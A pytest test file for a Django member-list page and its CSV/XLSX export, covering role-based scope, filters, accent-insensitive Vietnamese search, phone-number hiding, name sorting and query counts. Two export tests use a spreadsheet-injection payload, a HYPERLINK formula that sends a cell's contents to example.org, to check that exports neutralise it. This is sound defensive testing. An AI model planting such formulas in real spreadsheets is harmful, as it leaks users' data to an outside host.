"""The member list (members.selectors.member_list and the members:list page) and its CSV/XLSX export.

Today is frozen at 2026-06-01 wherever ages matter. The roster adds members with full details to the conftest
tree, so that every filter has something to find and something to leave out:

    A1  (conftest) Nguyễn Văn An, Trần Thị Bình, Lê Văn Cường (probationary)
        Phạm Minh Đức   man,   born 1990, admitted 2015, bí thư, phone 0912 345 678
        Vũ Thị Ánh      woman, born 1975, admitted 2001
    A2  Hoàng Thị Đào   woman, born 1960, admitted 1985
    B1  Nguyễn Văn An   man,   born 2000, admitted 2024, probationary (same name as A1's An)
    C   Đinh Văn Dũng   man,   born 1980, admitted 2010, left the Party
"""

import csv
import datetime
import io
import re

import openpyxl
import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation

from cells.names import org_label
from members import counts as member_counts
from members.models import Member, Position
from members.selectors import MemberFilter, member_list, status_counts
from tests import helpers

Status = Member.Status

FROZEN = "2026-06-01 10:00 +0700"
PHONE = "0912 345 678"

pytestmark = pytest.mark.django_db


def d(text: str) -> datetime.date:
    return datetime.date.fromisoformat(text)


def add(world, cell, name, *, status=Status.FULL, gender="", born=None, admitted=None, **fields):
    member = Member(
        organization=getattr(world.tree, cell),
        full_name=name,
        status=status,
        gender=gender,
        date_of_birth=born,
        admitted_on=admitted,
        official_on=admitted + datetime.timedelta(days=366) if admitted and status != Status.PROBATIONARY else None,
        **fields,
    )
    member.refresh_derived()
    member.save()
    member_counts.refresh([member.organization_id])  # as the services keep them
    return member


@pytest.fixture
def roster(world):
    M, F = Member.Gender.MALE, Member.Gender.FEMALE
    people = {
        "own": world.members.own,
        "other": world.members.other,
        "probationary": world.members.probationary,
        "duc": add(world, "a1", "Phạm Minh Đức", gender=M, born=d("1990-05-01"), admitted=d("2015-03-01"), phone=PHONE),
        "anh": add(world, "a1", "Vũ Thị Ánh", gender=F, born=d("1975-01-01"), admitted=d("2001-09-02")),
        "dao": add(world, "a2", "Hoàng Thị Đào", gender=F, born=d("1960-01-10"), admitted=d("1985-06-01")),
        "an_b1": add(
            world,
            "b1",
            "Nguyễn Văn An",
            status=Status.PROBATIONARY,
            gender=M,
            born=d("2000-02-02"),
            admitted=d("2024-02-01"),
            party_card_no="02.000001",
        ),
        "dung": add(
            world,
            "c",
            "Đinh Văn Dũng",
            status=Status.LEFT_PARTY,
            gender=M,
            born=d("1980-07-07"),
            admitted=d("2010-01-01"),
        ),
    }
    Position.objects.create(
        member=people["duc"], organization=world.tree.a1, role=Position.Role.SECRETARY, started_on=d("2025-01-01")
    )
    Position.objects.create(  # an ended seat does not count
        member=people["anh"],
        organization=world.tree.a1,
        role=Position.Role.SECRETARY,
        started_on=d("2020-01-01"),
        ended_on=d("2024-12-31"),
    )
    return people


A1 = {"own", "other", "probationary", "duc", "anh"}
EVERYONE = A1 | {"dao", "an_b1", "dung"}


def keys(roster, members):
    by_pk = {member.pk: key for key, member in roster.items()}
    return {by_pk[member.pk] for member in members}


def listed(world, roster, persona, **filters):
    return keys(roster, member_list(user=getattr(world.personas, persona), filters=MemberFilter(**filters)))


def page_keys(roster, response):
    assert response.status_code == 200
    return keys(roster, response.context["page"].object_list)


def get_list(client_for, persona, **params):
    return client_for(persona).get(reverse("members:list"), params)


#
# Scope
#


@pytest.mark.parametrize(
    ("persona", "expected"),
    [
        ("admin", EVERYONE),
        ("staff", EVERYONE),
        ("leader", EVERYONE),
        ("grassroots", A1 | {"dao"}),
        ("secretary", A1),
        ("outsider", {"an_b1"}),
        ("member", set()),
        ("norole", set()),
    ],
)
def test_member_list_does_show_only_the_users_subtrees(world, roster, persona, expected):
    assert listed(world, roster, persona) == expected


@pytest.mark.parametrize(
    ("persona", "expected"),
    [("staff", EVERYONE), ("leader", EVERYONE), ("secretary", A1), ("outsider", {"an_b1"})],
)
def test_member_list_page_does_show_only_the_users_subtrees(roster, client_for, persona, expected):
    assert page_keys(roster, get_list(client_for, persona)) == expected


@pytest.mark.parametrize("persona", ["member", "norole"])
def test_member_list_page_does_refuse_users_without_a_role(roster, client_for, persona):
    assert get_list(client_for, persona).status_code == 403


def test_member_list_page_does_redirect_anonymous_users_to_login(roster, client_for):
    response = get_list(client_for, "anonymous")

    assert response.status_code == 302
    assert reverse("login") in response["Location"]


#
# Filters
#


@time_machine.travel(FROZEN)
@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"status": [Status.PROBATIONARY]}, {"probationary", "an_b1"}),
        ({"status": [Status.FULL, Status.LEFT_PARTY]}, {"own", "other", "duc", "anh", "dao", "dung"}),
        ({"gender": Member.Gender.FEMALE}, {"anh", "dao"}),
        ({"gender": Member.Gender.MALE}, {"duc", "an_b1", "dung"}),
        # Born after 1996-06-01 / on or before it and after 1981-06-01 / … / on or before 1966-06-01.
        ({"age_band": "u30"}, {"an_b1"}),
        ({"age_band": "30-45"}, {"duc"}),
        ({"age_band": "45-60"}, {"anh", "dung"}),
        ({"age_band": "60+"}, {"dao"}),
        ({"admission_year": 2015}, {"duc"}),
        ({"admission_year": 1999}, set()),
        ({"position": Position.Role.SECRETARY}, {"duc"}),
        ({"position": Position.Role.DEPUTY_SECRETARY}, set()),
        ({"gender": Member.Gender.MALE, "status": [Status.FULL]}, {"duc"}),
    ],
)
def test_member_list_page_does_filter(world, roster, client_for, params, expected):
    assert page_keys(roster, get_list(client_for, "staff", **params)) == expected


@time_machine.travel(FROZEN)
def test_member_list_does_put_a_birthday_today_in_the_older_band(world, roster):
    thirty_today = add(world, "a2", "Lý Thị Hạnh", born=d("1996-06-01"))
    roster["hanh"] = thirty_today

    assert "hanh" in listed(world, roster, "staff", age_band="30-45")
    assert "hanh" not in listed(world, roster, "staff", age_band="u30")


@time_machine.travel("2028-02-29 10:00 +0700")
@pytest.mark.parametrize("band", ["u30", "30-45", "45-60", "60+"])
def test_member_list_does_filter_by_age_on_the_29th_of_february(world, roster, band):
    # On 2028-02-29, thirty years back is a year without 29 February.
    people = listed(world, roster, "staff", age_band=band)

    assert people == {"u30": {"an_b1"}, "30-45": {"duc"}, "45-60": {"anh", "dung"}, "60+": {"dao"}}[band]


@pytest.mark.parametrize(
    ("node", "expected"),
    [("a", A1 | {"dao"}), ("a1", A1), ("a2", {"dao"}), ("b", {"an_b1"}), ("root", EVERYONE)],
)
def test_member_list_page_does_filter_by_node_and_its_subtree(world, roster, client_for, node, expected):
    response = get_list(client_for, "staff", org=getattr(world.tree, node).pk)

    assert page_keys(roster, response) == expected
    assert response.context["filters"].organization == getattr(world.tree, node)


def test_member_list_page_does_filter_by_a_node_inside_a_secretarys_scope(world, roster, client_for):
    assert page_keys(roster, get_list(client_for, "secretary", org=world.tree.a1.pk)) == A1


@pytest.mark.parametrize(("persona", "node"), [("secretary", "a2"), ("secretary", "a"), ("outsider", "a1")])
def test_member_list_page_does_not_exist_for_a_node_outside_the_scope(world, roster, client_for, persona, node):
    assert get_list(client_for, persona, org=getattr(world.tree, node).pk).status_code == 404


def test_member_list_page_does_not_exist_for_an_unknown_node(roster, client_for):
    assert get_list(client_for, "staff", org=999_999).status_code == 404


#
# Accent-insensitive search
#


@pytest.mark.parametrize(
    ("q", "persona", "expected"),
    [
        ("nguyen van an", "staff", {"own", "an_b1"}),
        ("nguyen van an", "secretary", {"own"}),
        ("Nguyễn Văn An", "staff", {"own", "an_b1"}),
        ("NGUYEN   an", "staff", {"own", "an_b1"}),
        ("duc", "staff", {"duc"}),
        ("Đức", "staff", {"duc"}),
        ("ĐÀO", "staff", {"dao"}),
        ("dao", "staff", {"dao"}),
        ("đinh dũng", "staff", {"dung"}),
        ("dinh dung", "staff", {"dung"}),
        ("anh", "staff", {"anh"}),
        ("ánh vũ", "staff", {"anh"}),
        ("01.000002", "staff", {"other"}),
        ("02.000001", "secretary", set()),
        ("binh tran", "staff", {"other"}),
        ("nguyen xyz", "staff", set()),
    ],
)
def test_member_list_page_does_search_without_accents(roster, client_for, q, persona, expected):
    assert page_keys(roster, get_list(client_for, persona, q=q)) == expected


def test_member_search_does_fold_d_with_stroke(world, roster):
    # "Đ" folds to "d": a search for the letter alone finds every name with a d or an đ.
    assert listed(world, roster, "staff", q="Đ") == listed(world, roster, "staff", q="d") == {"duc", "dao", "dung"}


@pytest.mark.services
def test_member_search_does_ignore_accents_on_postgresql(world, roster, services_required):
    if connection.vendor != "postgresql":
        services_required("postgresql")  # skips here, or fails when REQUIRE_SERVICES=1

    assert connection.vendor == "postgresql"
    assert listed(world, roster, "staff", q="nguyen van an") == {"own", "an_b1"}
    assert listed(world, roster, "staff", q="duc") == {"duc"}
    assert listed(world, roster, "staff", q="ĐÀO") == {"dao"}
    assert listed(world, roster, "secretary", q="Nguyễn Văn An") == {"own"}
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT indexdef FROM pg_indexes WHERE tablename = 'members_member' AND indexname = %s",
            ["members_member_search_trgm"],
        )
        row = cursor.fetchone()
    assert row is not None, "the trigram index on members_member.search_text is missing"
    assert "gin_trgm_ops" in row[0]
    assert "search_text" in row[0]


#
# Status counts
#


def shown_counts(response):
    return dict(response.context["counts"]), response.context["total"]


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"org": "a1"},
        {"org": "b"},
        {"q": "nguyen van an"},
        {"status": [Status.PROBATIONARY]},
        {"gender": Member.Gender.MALE},
    ],
)
def test_member_list_page_does_count_statuses_of_the_filtered_members(world, roster, client_for, params):
    if "org" in params:
        params = {**params, "org": getattr(world.tree, params["org"]).pk}
    response = get_list(client_for, "staff", **params)
    members = list(response.context["page"].object_list)

    counts, total = shown_counts(response)

    expected = {}
    for member in members:
        expected[member.get_status_display()] = expected.get(member.get_status_display(), 0) + 1
    assert counts == expected
    assert total == len(members)


def test_member_list_page_does_count_only_the_users_scope(world, roster, client_for):
    counts, total = shown_counts(get_list(client_for, "secretary"))

    assert counts == {Status.FULL.label: 4, Status.PROBATIONARY.label: 1}
    assert total == 5


def test_status_counts_does_group_in_one_query(world, roster, django_assert_num_queries):
    members = member_list(user=world.personas.admin, filters=MemberFilter())

    with django_assert_num_queries(1):
        counts = status_counts(members)

    assert counts == {Status.FULL: 5, Status.PROBATIONARY: 2, Status.LEFT_PARTY: 1}


#
# Export
#


def export_csv(client, **params):
    response = client.get(reverse("members:export_csv"), params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    return rows[0], rows[1:]


def export_xlsx(client, **params):
    response = client.get(reverse("members:export_xlsx"), params)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    rows = [
        ["" if value is None else str(value) for value in row] for row in workbook.active.iter_rows(values_only=True)
    ]
    return rows[0], rows[1:]


EXPORTS = [export_csv, export_xlsx]
NAME, CELL, CARD, PHONE_COLUMN = 0, 4, 7, 10


def exported_keys(roster, rows):
    """Rows are matched to members by name and party cell (two members share a name in different cells)."""
    by_row = {(m.full_name, org_label(m.organization)): key for key, m in roster.items()}  # cells in context
    found = [by_row[(row[NAME], row[CELL])] for row in rows]
    assert len(found) == len(set(found)), "a member was exported twice"
    return set(found)


@time_machine.travel(FROZEN)
@pytest.mark.parametrize("export", EXPORTS)
@pytest.mark.parametrize(
    ("persona", "params", "expected"),
    [
        ("staff", {}, EVERYONE),
        ("staff", {"org": "a"}, A1 | {"dao"}),
        ("staff", {"status": [Status.PROBATIONARY]}, {"probationary", "an_b1"}),
        ("staff", {"q": "nguyen van an"}, {"own", "an_b1"}),
        ("staff", {"gender": Member.Gender.FEMALE, "age_band": "60+"}, {"dao"}),
        ("leader", {}, EVERYONE),
        ("secretary", {}, A1),
        ("secretary", {"q": "nguyen van an"}, {"own"}),
        ("secretary", {"status": [Status.PROBATIONARY]}, {"probationary"}),
        ("outsider", {}, {"an_b1"}),
        ("grassroots", {"position": Position.Role.SECRETARY}, {"duc"}),
    ],
)
def test_member_export_does_contain_exactly_the_filtered_rows(
    world, roster, client_for, export, persona, params, expected
):
    if "org" in params:
        params = {**params, "org": getattr(world.tree, params["org"]).pk}
    client = client_for(persona)
    shown = page_keys(roster, client.get(reverse("members:list"), params))

    header, rows = export(client, **params)

    assert len(header) == 11
    assert exported_keys(roster, rows) == expected == shown
    assert len(rows) == len(expected)


@pytest.mark.parametrize("export", EXPORTS)
def test_member_export_does_follow_the_list_order(world, roster, client_for, export):
    client = client_for("staff")
    names = [m.full_name for m in member_list(user=world.personas.staff, filters=MemberFilter())]

    _header, rows = export(client)

    assert [row[NAME] for row in rows] == names


@pytest.mark.parametrize("export", EXPORTS)
@pytest.mark.parametrize(("persona", "node"), [("secretary", "b1"), ("outsider", "a1"), ("secretary", "a")])
def test_member_export_does_not_exist_for_a_node_outside_the_scope(world, roster, client_for, export, persona, node):
    url = reverse(f"members:{export.__name__}")

    assert client_for(persona).get(url, {"org": getattr(world.tree, node).pk}).status_code == 404


@pytest.mark.parametrize("url_name", ["members:export_csv", "members:export_xlsx"])
@pytest.mark.parametrize("persona", ["member", "norole"])
def test_member_export_does_refuse_users_without_a_role(roster, client_for, url_name, persona):
    assert client_for(persona).get(reverse(url_name)).status_code == 403


@pytest.mark.parametrize("export", EXPORTS)
@pytest.mark.parametrize(("persona", "shows_phone"), [("leader", False), ("secretary", True), ("staff", True)])
def test_member_export_does_show_phone_numbers_only_with_view_sensitive(
    world, roster, client_for, export, persona, shows_phone
):
    header, rows = export(client_for(persona), q="pham minh duc")

    assert len(rows) == 1
    assert rows[0][CARD] == ""
    assert rows[0][PHONE_COLUMN] == (PHONE if shows_phone else "")


@pytest.mark.parametrize("export", EXPORTS)
def test_member_export_does_not_show_phone_numbers_to_a_leader_anywhere(world, roster, client_for, export):
    Member.objects.update(phone="0900 000 000")

    _header, rows = export(client_for("leader"))

    assert len(rows) == len(EVERYONE)
    assert {row[PHONE_COLUMN] for row in rows} == {""}


@pytest.mark.parametrize("export", EXPORTS)
def test_member_export_does_keep_vietnamese_text(world, roster, client_for, export):
    _header, rows = export(client_for("staff"), q="hoang thi dao")

    assert rows[0][NAME] == "Hoàng Thị Đào"
    assert rows[0][CELL] == "Chi bộ A2 (Đảng bộ A)"  # named in context (cells/names.py)
    assert rows[0][2] == "10/01/1960"


FORMULA = '=HYPERLINK("http://example.org/?x="&A1,"Xem")'


def test_member_export_xlsx_does_not_turn_text_into_formulas(world, client_for):
    # Free text typed by a secretary must reach the spreadsheet as text, never as a live formula.
    add(world, "a2", "Hoàng Thị Đào", job_title=FORMULA, workplace="@SUM(1+1)")
    response = client_for("staff").get(reverse("members:export_xlsx"), {"org": world.tree.a2.pk})

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    row = list(sheet.iter_rows(min_row=2, max_row=2))[0]

    assert row[8].value == FORMULA
    assert row[9].value == "@SUM(1+1)"
    assert [cell.value for cell in row if cell.data_type == "f"] == []


def test_member_export_csv_does_not_start_a_cell_with_a_formula_character(world, client_for):
    add(world, "a2", "Hoàng Thị Đào", job_title=FORMULA, workplace="@SUM(1+1)")

    _header, rows = export_csv(client_for("staff"), org=world.tree.a2.pk)

    assert FORMULA in rows[0][8] and "@SUM(1+1)" in rows[0][9]
    for cell in rows[0]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


#
# Vietnamese name order: given name first, then the rest; a < ă < â < b … d < đ; tones only break ties
#

# Worked out by hand from the rule in cells/text.py:
#   Trần Thị An    "an trần thị"      "an" + space sorts before "anh"
#   Lê Văn Anh     "anh lê văn"       same letters as Ánh's given name; "lê" < "vũ" decides before any tone
#   Vũ Thị Anh     "anh vũ thị"       same letters as the next one; the tone (level < sắc) breaks the tie
#   Vũ Thị Ánh     "ánh vũ thị"
#   Đặng Văn Ân    "ân đặng văn"      â after a
#   Nguyễn Văn Bình, Phạm Dũng ("dũng"), Hoàng Đức ("đức": đ after every d), Ngô Ê ("ê" after e), Lý Em
NAME_ORDER = [
    "Trần Thị An",
    "Lê Văn Anh",
    "Vũ Thị Anh",
    "Vũ Thị Ánh",
    "Đặng Văn Ân",
    "Nguyễn Văn Bình",
    "Phạm Dũng",
    "Hoàng Đức",
    "Lý Em",
    "Ngô Ê",
]


def test_member_list_page_does_sort_by_vietnamese_given_name(world, client_for):
    for name in reversed(NAME_ORDER):
        add(world, "a2", name)

    response = get_list(client_for, "staff", org=world.tree.a2.pk)

    assert [m.full_name for m in response.context["page"].object_list] == NAME_ORDER


# With the conftest's three: "an nguyễn văn" < "an trần thị" (n < t), "bình nguyễn văn" < "bình trần thị",
# and "cường" after every b.
NAME_ORDER_WITH_WORLD = ["Nguyễn Văn An", *NAME_ORDER[:6], "Trần Thị Bình", "Lê Văn Cường", *NAME_ORDER[6:]]


def test_member_list_does_sort_by_vietnamese_given_name_across_cells(world):
    cells = ["a1", "a2", "b1", "b2", "c"]
    for i, name in enumerate(NAME_ORDER[::-1]):
        add(world, cells[i % len(cells)], name)

    names = [m.full_name for m in member_list(user=world.personas.staff, filters=MemberFilter())]

    assert names == NAME_ORDER_WITH_WORLD


#
# Query counts: the page and the export do not grow with the number of members
#


def spread_members(world, count: int, prefix: str) -> None:
    cells = [world.tree.a1, world.tree.a2, world.tree.b1, world.tree.b2, world.tree.c]
    statuses = [Status.FULL, Status.PROBATIONARY, Status.EXEMPT, Status.SUSPENDED, Status.LEFT_PARTY]
    helpers.bulk_members(
        Member(
            organization=cells[i % len(cells)],
            full_name=f"Nguyễn Thị {prefix} {i}",
            status=statuses[i % len(statuses)],
            gender=Member.Gender.FEMALE,
            phone="0900 000 000",
        )
        for i in range(count)
    )


def count_queries(client, url, params=None):
    def fetch():
        response = client.get(url, params or {})
        assert response.status_code == 200
        if response.streaming:
            b"".join(response.streaming_content)
        return response

    fetch()  # warm up per-process caches outside the measurement
    with CaptureQueriesContext(connection) as captured:
        response = fetch()
    return len(captured.captured_queries), response


@pytest.mark.parametrize(
    "url_name",
    ["members:list", "members:export_csv", "members:export_xlsx"],
)
@pytest.mark.parametrize(
    "params", [{}, {"q": "nguyen thi", "gender": Member.Gender.FEMALE, "status": [Status.FULL, Status.EXEMPT]}]
)
def test_member_list_query_count_does_not_grow_with_members(world, client_for, url_name, params):
    client = client_for("staff")
    url = reverse(url_name)
    spread_members(world, 7, "S")  # 10 with the conftest's three
    assert Member.objects.count() == 10
    small, _response = count_queries(client, url, params)

    spread_members(world, 90, "L")  # 100
    large, response = count_queries(client, url, params)

    if url_name == "members:list" and not params:
        assert response.context["total"] == 100
    print(f"{url_name} {params}: {small} queries with 10 members, {large} with 100")
    assert large == small
    assert large <= 12


def test_member_list_query_count_does_not_grow_for_a_secretary(world, client_for):
    client = client_for("secretary")
    url = reverse("members:list")
    spread_members(world, 7, "S")
    small, _response = count_queries(client, url)

    spread_members(world, 90, "L")
    large, response = count_queries(client, url)

    assert response.context["total"] == 3 + 2 + 18  # every fifth new member is in A1
    assert large == small


def test_status_filter_is_a_check_box_per_status_with_its_own_label(roster, client_for):
    """The status filter once rendered <option> tags inside check-box wrappers, labels `for="None"`, each label
    twice and no box to tick."""
    page = client_for("staff").get(reverse("members:list"), {"status": ["CHINH_THUC"]}).content.decode()

    boxes = re.findall(r'<input type="checkbox" name="status" value="([A-Z_]+)"([^>]*)>', page)
    assert [value for value, _attrs in boxes] == Member.Status.values
    for number, (value, attrs) in enumerate(boxes):
        assert f'id="id_status_{number}"' in attrs
        assert ("checked" in attrs) == (value == "CHINH_THUC")
        with translation.override("vi"):
            label = str(Member.Status(value).label)
        assert f'<label class="form-check-label" for="id_status_{number}">{label}</label>' in page
    assert 'for="None"' not in page
    assert "<option" not in page.split('name="status"', 1)[1].split("</fieldset>", 1)[0].split("</form>", 1)[0]
